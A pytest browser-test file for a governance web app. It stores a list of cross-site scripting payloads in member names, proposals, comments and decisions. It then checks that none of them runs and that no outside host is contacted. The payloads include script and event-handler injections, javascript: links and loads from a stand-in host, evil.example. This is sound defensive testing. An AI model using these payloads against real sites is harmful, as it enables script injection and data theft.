"""Words that would be programs: written by members in every place that takes words, opened in a real browser.

Nothing runs, and the content policy has nothing to stop: whatever it stopped would have come through as markup.
"""

import pytest

from governance.circles.models import Circle
from governance.decisions.actions.register import NewDecision, enter
from governance.decisions.models import Decision
from governance.proposals.actions import discussing, writing
from members.people.models import College, Member, Organisation, Person, StakeholderGroup
from tests import make
from tests.browser.pages import DESK, Window

pytestmark = pytest.mark.django_db(transaction=True)

# What each would do, if it did anything: `ran` is looked for on each page.
RUN = "window.ran=(window.ran||0)+1"
WORDS = [
    f"<script>{RUN}</script>", f"<img src=x onerror='{RUN}'>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<details open ontoggle={RUN}>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<body onload={RUN}>",
    f"<a href='javascript:{RUN}'>x</a>", f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](java\tscript:{RUN})", f"<javascript:{RUN}>",
    f"![x](x\"onerror=\"{RUN})", f"[x](https://a.example\"onmouseover=\"{RUN})", f"[x][1]\n\n[1]: javascript:{RUN} \"x\"",
    f"`</code><script>{RUN}</script>`", f"```\n</code></pre><script>{RUN}</script>\n```", f"<!--><script>{RUN}</script>-->",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"</textarea><script>{RUN}</script>", f"</title><script>{RUN}</script>",
    f"\"><script>{RUN}</script>", f"' onfocus='{RUN}' autofocus x='", f"\" autofocus onfocus=\"{RUN}", "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=x></form>", "![x](https://evil.example/pixel.png)", "<img src=https://evil.example/pixel.png>",
    "<object data=https://evil.example/x></object>", "{{ 7|add:7 }}{% debug %}", f"<div hx-get='https://evil.example/' hx-trigger=load hx-on:load='{RUN}'>x</div>",
    f"<p data-hx-on:click='{RUN}' onclick='{RUN}'>x</p>", "#panic(\"x\") #include \"x.typ\"",
]  # fmt: skip
WATCH = """
window.stopped = [];
addEventListener('securitypolicyviolation', (event) => window.stopped.push(event.violatedDirective + ' ' + event.blockedURI));
for (const asked of ['alert', 'confirm', 'prompt']) window[asked] = () => { window.ran = (window.ran || 0) + 1; };
"""


@pytest.fixture
def house(served, sign_in, browser):
    """A house in which every name and every text is hostile; and windows of those who read them."""
    make.code()
    cast = make.cast()
    hostile_names(cast)
    text = "\n\n".join(WORDS)
    proposal = make.proposal(cast.alice, title=WORDS[1][:100], body=text, driver=text, visibility="public")
    for words in WORDS:
        discussing.comment(proposal, cast.bob, words)
    writing.revise(
        proposal,
        cast.alice,
        title=WORDS[0][:100],
        driver=text,
        body=text[::-1] + text,
        measure=text,
        note=WORDS[22][:60],
        based_on=1,
    )
    enter(
        NewDecision(
            title=WORDS[0], text=text, adopted=True, body=WORDS[1][:60], source="history",
            ground={"how": "consent", "sentence": WORDS[21]}, visibility="public", decided_at=make.database_now(),
        )
    )  # fmt: skip
    windows = []

    def window(person):
        opened = Window(browser, served, **DESK)
        opened.context.add_init_script(WATCH)
        key = sign_in(person).cookies["session"].value
        opened.context.add_cookies([{"name": "session", "value": key, "url": served}])
        opened.asked = []
        opened.page.on("request", lambda request: opened.asked.append(request.url))
        windows.append(opened)
        return opened

    yield cast, proposal, window
    for one in windows:
        one.close()


def hostile_names(cast):
    """Names are kept as they are typed; the longest that each may be."""
    Person.objects.filter(pk=cast.bob.pk).update(given_name=WORDS[1][:60], family_name=WORDS[2][:60])
    Person.objects.filter(pk=cast.alice.pk).update(given_name=WORDS[0][:60], family_name=WORDS[21][:60])
    Circle.objects.filter(pk=cast.workshop.pk).update(name=WORDS[1][:60], aim=WORDS[0] + WORDS[4])
    College.objects.filter(code="U").update(name=WORDS[22][:60])
    StakeholderGroup.objects.update(name=WORDS[2][:60])
    Member.objects.filter(pk=cast.seats["bob"].pk).update(postal_address="\n".join(WORDS[:3]))
    Organisation.objects.update(name=WORDS[1][:60], city=WORDS[0][:60])


def unharmed(window, path):
    """Nothing ran on this page, nothing had to be stopped, and nobody else was asked."""
    assert window.page.evaluate("window.ran || 0") == 0, path
    assert window.page.evaluate("window.stopped") == [], path
    assert window.page.evaluate("window.location.origin") == window.address
    assert [url for url in window.asked if not url.startswith((window.address, "data:"))] == [], path
    assert window.page.evaluate(
        "[...document.querySelectorAll('a[href], form[action]')].filter(e => /^\\s*(java|vb)script:|^data:/i.test(e.getAttribute('href') || e.getAttribute('action'))).length"
    ) == 0, path  # fmt: skip
    assert window.page.evaluate(
        "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => /^(on|hx-on|data-hx-on)/.test(a.name)).length"
    ) == 0, path  # fmt: skip


def pages(cast, proposal):
    number, seat = proposal.number, cast.seats["bob"].number
    return [
        "/home/", f"/proposals/{number}/", f"/proposals/{number}/versions/", f"/proposals/{number}/edit/", "/proposals/", "/members/", f"/members/{seat}/",
        f"/circles/{cast.workshop.slug}/", "/circles/", "/notices/", "/open/", f"/open/follow/{number}/", "/open/functioning/", "/me/",
        "/me/data/", f"/shares/of/{seat}/", "/desk/", "/desk/journal/", "/admin/people/person/", "/admin/journal/entry/", "/demo/mailbox/", "/join/",
    ]  # fmt: skip


def test_nothing_that_members_write_runs_in_a_browser(house):
    cast, proposal, window = house
    desk = window(cast.erik)
    decided = Decision.objects.latest("pk")
    for path in [*pages(cast, proposal), f"/open/decisions/{decided.year}/{decided.rank}/"]:
        answer = desk.page.goto(f"{desk.address}{path}")
        assert answer.status in {200, 404}, path
        unharmed(desk, path)
    alice = window(cast.alice)
    for path in ("/home/", f"/proposals/{proposal.number}/edit/", "/notices/"):
        alice.open(path)
        unharmed(alice, path)
    assert len([url for url in desk.asked if url.endswith(".js")]) > 3, "our own programs do run"


def test_the_watch_can_see(house):
    """An ablation: the same words, put into a page as they are, are stopped by the policy and seen by the watch."""
    cast, _proposal, window = house
    alice = window(cast.alice)
    alice.open("/home/")
    alice.page.evaluate(
        """new Promise((seen) => {
            addEventListener('securitypolicyviolation', seen, {once: true});
            document.body.insertAdjacentHTML('beforeend', "<img src=x onerror='window.ran=1'>");
        }).then(() => true)"""
    )
    with pytest.raises(AssertionError):
        unharmed(alice, "ablation")
